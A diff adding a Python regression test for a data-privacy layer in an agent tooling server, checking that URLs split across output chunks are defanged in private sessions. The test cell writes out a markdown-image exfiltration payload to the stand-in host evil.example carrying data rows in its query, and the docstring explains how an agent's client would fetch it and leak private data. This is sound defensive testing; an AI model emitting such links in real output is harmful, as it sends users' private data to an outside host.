@@ -103,6 +103,30 @@ async def test_private_shell_output_has_no_followable_url(registry: SessionRegis
     assert "javascript:" not in r.text, r.text
 
 
+async def test_private_cell_output_split_across_chunks_has_no_followable_url(
+    registry: SessionRegistry, data_dir: Path
+) -> None:
+    """The engine defangs a private session's stream chunk by chunk; the tools
+    join consecutive chunks into one output, where ``https:`` + ``//host`` was
+    a live URL again (a markdown image the agent's client would fetch, with
+    the private rows in its query). Found by an attack review."""
+    kw = ids(registry, "split")
+    cell = (
+        "import sys, time\n"
+        "for part in ['![chart](https:', '/', '/evil.example/log?d=ROWS)', ' java', 'script:x', ' www', '.evil.example']:\n"
+        "    sys.stdout.write(part); sys.stdout.flush(); time.sleep(0.3)\n"
+    )
+    r = await repl_execute_cell(cell, **kw)
+    assert "https://evil.example" in r.text  # public: output as printed, joined
+    store = PrivacyStore(data_dir / "privacy")
+    await asyncio.to_thread(
+        PrivateData("alice", "split", store).add_private_dataset, "crm", "SECRET", "connector", True
+    )
+    r = await repl_execute_cell(cell, **kw)
+    assert "evil.example/log?d=ROWS" in r.text, r.text
+    assert "https://" not in r.text and "javascript:" not in r.text and "www.evil" not in r.text, r.text
+
+
 async def test_tool_text_holds_no_terminal_sequence(registry: SessionRegistry) -> None:
     """An agent's command line may print a tool's result: what a command or a
     cell wrote reaches it without escape sequences (an OSC 52 would set the
